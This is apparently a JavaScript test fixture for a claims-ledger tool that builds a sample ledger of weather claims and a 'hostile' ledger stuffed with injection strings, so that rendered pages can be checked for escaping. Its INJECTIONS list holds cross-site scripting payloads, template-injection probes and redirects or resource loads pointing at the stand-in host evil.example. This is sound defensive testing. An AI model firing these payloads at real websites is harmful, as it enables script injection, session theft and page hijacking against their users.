// What the browser is shown: the reference ledger, one in which much was argued about, and one whose every text is hostile.

import { execFileSync } from "node:child_process";
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";

/** The program, without a terminal and with folders of its own; `home` holds them. */
export function programOf(grounds, home) {
  const env = { ...process.env, GROUNDS_CACHE: join(home, "cache"), GROUNDS_CONFIG: join(home, "config"), NO_COLOR: "1" };
  return (ledger, ...words) => execFileSync(grounds, words, {
    env: { ...env, GROUNDS_LEDGER: ledger }, cwd: home, stdio: ["ignore", "pipe", "pipe"], encoding: "utf8",
  });
}

/** Events as the program takes them, one commit. */
function acts(program, home, ledger) {
  let count = 0;
  return (events, ...options) => {
    const file = join(home, `act-${(count += 1)}.json`);
    writeFileSync(file, JSON.stringify(events.map(([subject, type, data]) => ({ subject, type, data }))));
    return program(ledger, "act", "--from", file, ...options);
  };
}

/** Retracted, withdrawn, expired, set aside, revised and superseded things; a claim with more states than fit a line. */
export function makeArgued(program, home) {
  const ledger = join(home, "argued");
  rmSync(ledger, { recursive: true, force: true });
  mkdirSync(home, { recursive: true });
  const g = (...words) => program(ledger, ...words);
  const act = acts(program, home, ledger);
  g("init", ledger, "--origin", "claims.example/argued", "--name", "Ada Lovelace", "--title", "A quarrel about the weather",
    "--description", "Who said what about rain, snow and the plain, and what became of it.");
  for (const name of ["carl", "atte", "bea"]) {
    g("agent", "add", name, "--name", `${name[0].toUpperCase()}${name.slice(1)}`, "--role", "contributor", "--role", "curator",
      "--role", "attester", "--reliability", "0.83", "--community", `${name}-lab`, "--new-key", join(home, name));
  }
  const key = (name) => ["--key", join(home, name)];
  act([
    ["context/plain", "context.defined", { name: "The plain", kind: "domain_scope" }],
    ["context/hills", "context.defined", { name: "Hills above 800 m, in winter, where somebody measures at all", kind: "domain_scope" }],
    ...["rain", "drought", "snow", "fog"].map((what, place) => [`artifact/${what}`, "artifact.registered", {
      title: `On ${what}${what === "fog" ? ", its formation, persistence and dispersal over inland plains: a forty-year record from three stations" : ""}`,
      kind: ["paper", "dataset", "report", "code"][place], label: `Author et al., ${2019 + place}`, year: 2019 + place,
      authors: ["An Author", "Another Author"], doi: `10.1234/${what}`, url: `https://example.org/${what}`,
    }]),
    ["claim/rain", "claim.asserted", claim("Rain falls mainly on the plain", "It was measured for forty years.", [["Weather", "0.9"], ["Ärger", "0.1"]])],
    ["claim/snow", "claim.asserted", claim("Snow falls mainly on the hills", "Nobody has looked at it closely.", [["Weather", "1"]])],
    ["claim/rtl", "claim.asserted", claim("الضوء أسرع من الصوت (في الفراغ)", "סיכום בעברית עם English באמצע.\n\nفقرة ثانية 12.5%.", [["فيزياء", "1"]])],
    ["claim/old", "claim.asserted", claim("Rain is made of water, as one has always known", "Older than the others.", [["Weather", "1"]])],
    ["claim/bare", "claim.asserted", claim("Nothing is known about this one", "No evidence yet.", [["Nothing", "1"]])],
    ["view/strict", "view.defined", { name: "Strict", description: "Only what was tested.", otherwise: "downweighted",
      rules: [{ when: "profile.supp != null && profile.supp >= 0.6", verdict: "included", reason: "Well supported." }, { when: "profile.cont != null && profile.cont > 0.5", verdict: "excluded", reason: "Disputed." }] }],
  ]);
  act([["claim/rain", "claim.scoped", { relation: "holds_in", context: "context/plain", breadth: "0.35" }],
    ["claim/rain", "claim.scoped", { relation: "fails_in", context: "context/hills", breadth: "0.2", note: "Measured in three winters." }]]);
  act([["claim/rain", "evidence.added", evidence("supports", "rain", "0.7", { passages: [
    { label: "The record of rain", confidence: "0.84", quote: "It rained on 212 of 365 days.", page: "p. 12" }] })]], ...key("carl"));
  act([["claim/rain", "evidence.added", evidence("disputes", "drought", "0.65")]], ...key("bea"));
  act([["claim/rain", "evidence.added", evidence("supports", "fog", "0.5")], ["claim/snow", "evidence.added", evidence("supports", "snow", "0.4")]], ...key("carl"));
  act([["artifact/rain", "artifact.appraised", { credibility: "0.81", methodology: "0.64", replication: "0.5", rationale: "Calibrated twice." }]]);
  act([["artifact/drought", "artifact.appraised", { credibility: "0.4" }]], ...key("carl"));
  act([["claim/rain", "attestation.made", { verdict: "verifies", weight: "0.9", version: 1, role: "Reviewer", comment: "So it is.", interests: "Paid by a maker of umbrellas." }]], ...key("atte"));
  act([["claim/snow", "attestation.made", { verdict: "disputes", weight: "0.4", version: 1, expires: "2020-01-01" }]], ...key("atte"));
  g("claim", "revise", "rain", "--statement", "Rain falls mostly, if not only, on the plain, and where it does not it is measured less", "-m", "Better words.");
  act([["claim/rain", "attestation.made", { verdict: "disputes", weight: "0.7", version: 2, comment: "Not any more." }]], ...key("atte"));
  act([["claim/rain", "claim.status_changed", { lifecycle: "active", standing: "contested", note: "Both ways." }]]);
  act([["claim/rain", "claim.linked", { relation: "contradicts", target: "claim/snow", note: "Not both." }],
    ["claim/rain", "claim.linked", { relation: "refines", target: "claim/old" }],
    ["claim/rtl", "claim.linked", { relation: "supports", target: "claim/rain" }],
    ["claim/rtl", "evidence.added", evidence("supports", "rain", "0.9")], ["claim/rtl", "evidence.added", evidence("disputes", "fog", "0.3")]]);
  act([["artifact/drought", "artifact.standing_changed", { standing: "retracted", notice: "https://example.org/notice", reason: "The data were made up." }]]);
  act([["artifact/fog", "artifact.standing_changed", { standing: "concern", reason: "Data are asked for." }]]);
  act([["claim/rain", "note.added", { text: "Look again in 2030." }], ["artifact/rain", "note.added", { text: "The second edition is longer." }]]);
  act([["claim/old", "claim.status_changed", { lifecycle: "active", note: "Taken up." }]]);
  act([["claim/old", "claim.status_changed", { lifecycle: "superseded", note: "Said better elsewhere.", by: "claim/rain" }]]);
  const from = Number(JSON.parse(g("show", "ledger", "--json")).head.size) - 1;
  act([["claim/snow", "note.added", { text: "Signed by somebody who had no right to." }]], ...key("bea"));
  const bea = execFileSync("ssh-keygen", ["-lf", `${join(home, "bea")}.pub`], { encoding: "utf8" }).split(" ")[1];
  g("key", "revoke", bea, "--reason", "compromised", "--since", `@${from}`);
  return ledger;
}

const claim = (statement, summary, domains) => ({
  statement, summary, nature: "empirical", polarity: "positive", falsifiability: "falsifiable", origin: "authored",
  domains: domains.map(([name, weight]) => ({ name, weight })),
});
const evidence = (relation, artifact, strength, more = {}) => ({ relation, artifact: `artifact/${artifact}`, strength, note: `It says so, of ${artifact}.`, ...more });

/** What no page may let through. `alert` would open a dialog, evil.example would be asked. */
export const INJECTIONS = [
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(2)>`,
  `' onmouseover='alert(3)' autofocus onfocus='alert(3)`,
  `</title></style></textarea></pre></bdi></p><svg onload=alert(4)><style>*{display:none}</style>`,
  `<iframe srcdoc="<script>parent.alert(5)</script>"></iframe>`,
  `<a href="javascript:alert(6)">x</a>`,
  `]]><x>&lt;script&gt;&#60;script&#62;alert(7)`,
  `{{7*7}} \${7*7} <%= 7*7 %> [link](javascript:alert(8))`,
  `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>@import url(//evil.example/y.css);`,
  `<form action=//evil.example><button autofocus onfocus=alert(9)>`,
  `--><!--><script>alert(10)</script><!--`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(11)>`,
  `<svg><image href="https://evil.example/i.png"/><foreignObject><body onload=alert(12)>`,
  `expression(alert(13)); background:url("https://evil.example/b.png")}*{display:none`,
  `<object data="data:text/html,<script>alert(14)</script>"><embed src=//evil.example/e>`,
  `שלום <b>עולם</b> (12%) עברית, 3 → 4`,
  `نص عربي طويل (12.5%) <i>مائل</i>`,
  "a\u200bb\u200dc\ufeffd\u2060e\u00adf",
  "Z\u0300\u0301\u0302\u0303\u0304\u0306\u0307\u0308algo",
  "\u{1F469}\u200d\u{1F52C}\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}",
  "W".repeat(180),
];

/** A ledger in which every field that takes words carries injections, each of them somewhere in each kind of field. */
export function makeHostile(program, home) {
  const ledger = join(home, "hostile");
  rmSync(ledger, { recursive: true, force: true });
  mkdirSync(home, { recursive: true });
  const g = (...words) => program(ledger, ...words);
  const act = acts(program, home, ledger);
  let turn = 0;
  /** The next injection, as many as fit into so many bytes. */
  const bad = (limit, count = 1) => {
    let text = "";
    for (let tries = 0; tries < INJECTIONS.length && count > 0; tries += 1) {
      const next = INJECTIONS[(turn += 1) % INJECTIONS.length];
      if (Buffer.byteLength(text + next) + 1 > limit) continue;
      text += text ? ` ${next}` : next;
      count -= 1;
    }
    return text || `"><svg/onload=alert(0)>`;
  };
  const all = INJECTIONS.join("\n\n");
  const url = (place) => [`https://evil.example/"><script>alert(1)</script>`, `https://evil.example/'onclick='alert(2)`,
    `http://evil.example/?a=javascript:alert(3)&b=<svg/onload=alert(4)>`, `https://evil.example/${"w".repeat(400)}`,
    `https://user:pass@evil.example:99/%00%0d%0aX:y#"onfocus=alert(5)autofocus`][place % 5];
  g("init", ledger, "--origin", "claims.example/hostile", "--name", INJECTIONS[1], "--agent-slug", "eve", "--title", INJECTIONS[0], "--description", all.slice(0, 3000));
  g("agent", "add", "mallory", "--name", INJECTIONS[3], "--role", "contributor", "--role", "curator", "--role", "attester", "--url", url(0), "--new-key", join(home, "mallory"));
  g("agent", "add", "trent", "--name", "Tr\u0435nt שלום", "--role", "attester", "--url", url(4), "--new-key", join(home, "trent"));
  for (let n = 0; n < 4; n += 1) {
    act([
      [`context/c${n}`, "context.defined", { name: bad(300, 2), kind: bad(60) }],
      [`artifact/a${n}`, "artifact.registered", { title: bad(1000, 6), kind: "webpage", label: bad(200), authors: [bad(200), bad(200)],
        doi: `10.1234/"><script>alert(${n})</script>`, url: url(n), key: bad(200) }],
      [`artifact/b${n}`, "artifact.registered", { title: INJECTIONS[(n + 16) % INJECTIONS.length], kind: "paper", label: bad(200), url: url(n + 3) }],
      [`claim/x${n}`, "claim.asserted", { ...claim(n === 3 ? "W".repeat(700) : bad(1000, 5), bad(4000, 8), [[bad(120), "0.5"], [`é${bad(110)}`, "0.2"]]), detail: n === 0 ? all : bad(9000, 12), key: bad(200) }],
      [`view/v${n}`, "view.defined", { name: bad(120), description: bad(2000, 6), otherwise: "excluded",
        rules: [{ when: bad(1000, 2), verdict: "included", reason: bad(300, 2) }, { when: "profile.supp == null || profile.supp >= 0.0", verdict: "included", reason: bad(300, 2) }] }],
    ]);
    const on = `claim/x${n}`;
    act([
      [on, "claim.scoped", { relation: n % 2 ? "holds_in" : "fails_in", context: `context/c${n}`, breadth: "0.4", note: bad(2000, 4) }],
      [on, "evidence.added", { relation: "supports", artifact: `artifact/a${n}`, strength: "0.6", note: bad(4000, 6), key: bad(200),
        passages: [{ label: bad(300, 2), confidence: "0.5", quote: bad(4000, 5), page: bad(80) }] }],
      [on, "evidence.added", { relation: "disputes", artifact: `artifact/b${n}`, strength: "0.5", note: bad(4000, 3) }],
      [on, "claim.status_changed", { lifecycle: "active", standing: "contested", note: bad(2000, 4) }],
      [on, "note.added", { text: bad(4000, 6) }],
      [`artifact/a${n}`, "artifact.appraised", { credibility: "0.5", rationale: bad(2000, 4) }],
      [`artifact/b${n}`, "artifact.standing_changed", { standing: "retracted", notice: url(n + 1), reason: bad(2000, 3) }],
      [`artifact/a${n}`, "note.added", { text: bad(4000, 4) }],
    ]);
    act([[on, "attestation.made", { verdict: "disputes", weight: "0.7", version: 1, role: bad(60), comment: bad(4000, 5), interests: bad(1000, 3) }]], "--key", join(home, "mallory"));
    act([[on, "claim.revised", { statement: bad(1000, 5), reason: bad(2000, 3) }]]);
    if (n > 0) act([[on, "claim.linked", { relation: "contradicts", target: `claim/x${n - 1}`, note: bad(2000, 3) }]]);
  }
  act([["claim/x0", "evidence.withdrawn", { ref: 3, reason: bad(2000, 3) }], ["claim/x0", "claim.unscoped", { ref: 2, reason: bad(2000, 3) }]]);
  return ledger;
}
